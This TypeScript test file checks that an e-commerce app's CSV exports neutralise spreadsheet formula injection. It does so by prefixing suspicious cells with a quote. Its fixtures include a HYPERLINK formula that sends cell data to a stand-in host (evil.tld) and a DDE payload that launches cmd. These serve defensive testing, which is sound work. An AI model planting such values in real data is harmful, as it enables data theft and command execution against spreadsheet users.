import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rupees } from '#shared/money.ts';
import type { Order } from '#shared/schemas/orders.ts';
import { buildTestApp, type TestApp } from '#server/testing/build-app.ts';
import { createProduct } from '#server/testing/factories.ts';
import { as, registerActiveVendor, registerCustomer, signInAdmin, type TestUser } from '#server/testing/sessions.ts';
import { testDialects } from '#server/testing/test-database.ts';

/** A cell a spreadsheet runs as a formula: it sends the row's neighbour to another site when clicked. */
const CUSTOMER = '=HYPERLINK("https://evil.tld/?"&A1,"Refund")';
/** The old DDE trick, as a seller's product name. */
const PRODUCT = "-2+3+cmd|' /C calc'!A0 Laptop";
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

const rows = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

/**
 * Every CSV export (the admin's payments, a seller's settlement, the import template) writes a
 * cell that starts like a formula with a quote before it (OWASP's CSV injection advice), and a
 * plain amount, negative or not, as a number.
 */
describe.each(testDialects())('CSV exports on %s', (dialect) => {
  let t: TestApp;
  let admin: TestUser;
  let seller: TestUser & { vendorId: number };
  let order: Order;

  beforeAll(async () => {
    t = await buildTestApp(dialect);
    admin = await signInAdmin(t, 'admin@csv.in', 'CSV Admin');
    seller = await registerActiveVendor(t, 'seller@csv.in', 'Formula Traders');
    const product = await createProduct(t.services, {
      vendorId: seller.vendorId,
      name: PRODUCT,
      category: 'Laptop',
      price: rupees(50_000),
      stock: 5,
    });
    const customer = await registerCustomer(t, 'mallory@csv.in', CUSTOMER);
    const address = (
      await as(t, customer)('POST', '/api/account/addresses', {
        name: 'Mallory',
        phone: '9845012345',
        line1: '4 Sayyaji Rao Road',
        city: 'Mysuru',
        state: 'Karnataka',
        pincode: '570001',
      })
    ).json().id as number;
    const placed = await as(t, customer)('POST', '/api/checkout/orders', {
      idempotencyKey: `csv-${dialect}`,
      addressId: address,
      items: [{ productId: product.id, quantity: 1 }],
    });
    expect(placed.statusCode, placed.body).toBe(201);
    order = placed.json<Order>();
    const paid = await as(t, customer)('POST', `/api/orders/${order.id}/payments`, { method: 'upi', vpa: 'mallory@okhdfc' });
    expect(paid.statusCode, paid.body).toBe(200);
    for (const shipment of (await as(t, customer)('GET', `/api/orders/${order.id}`)).json<Order>().fulfilments) {
      for (const [step, body] of [['pack'], ['ship', { carrier: 'Delhivery', trackingNumber: 'DLV0777000' }], ['deliver']] as const) {
        expect((await as(t, seller)('POST', `/api/vendor/fulfilments/${shipment.id}/${step}`, body)).statusCode).toBe(200);
      }
    }
  });
  afterAll(() => t.close());

  /** No cell starts like a formula, but for plain numbers. */
  const expectNoFormula = (csv: string) => {
    for (const cell of rows(csv).flat()) if (!PLAIN_NUMBER.test(cell)) expect(cell).not.toMatch(FORMULA_START);
  };

  it("writes the admin's payments with the customer's name as text", async () => {
    const csv = await as(t, admin)('GET', `/api/admin/payments.csv?q=${order.number}`);
    expect(csv.statusCode, csv.body).toBe(200);
    const [header, row] = rows(csv.body);
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('customer')).toBe(`'${CUSTOMER}`);
    expect(cell('amount_inr')).toBe('50000.00');
    expect(cell('refunded_inr')).toBe('0.00');
    expectNoFormula(csv.body);
  });

  it("writes the seller's settlement with the product's name as text and its amounts as numbers", async () => {
    const csv = await as(t, seller)('GET', '/api/vendor/settlements.csv?days=7');
    expect(csv.statusCode, csv.body).toBe(200);
    const all = rows(csv.body);
    expect(all[1]).toEqual([order.number, expect.any(String), `'${PRODUCT}`, '1', '50000.00', '0.00', '', 'upi']);
    expect(all.find(([name]) => name === 'returns_refunded_inr')).toEqual(['returns_refunded_inr', '0.00']);
    expect(all.find(([name]) => name === 'net_payable_inr')?.[1]).toMatch(PLAIN_NUMBER);
    expectNoFormula(csv.body);
  });

  it('writes the import template through the same writer, unchanged', async () => {
    const csv = await as(t, seller)('GET', '/api/vendor/products/import/template');
    expect(csv.statusCode).toBe(200);
    const [header, example] = rows(csv.body);
    expect(header![0]).toBe('sku');
    expect(example![header!.indexOf('price')]).toBe('72990');
    expectNoFormula(csv.body);
  });
});
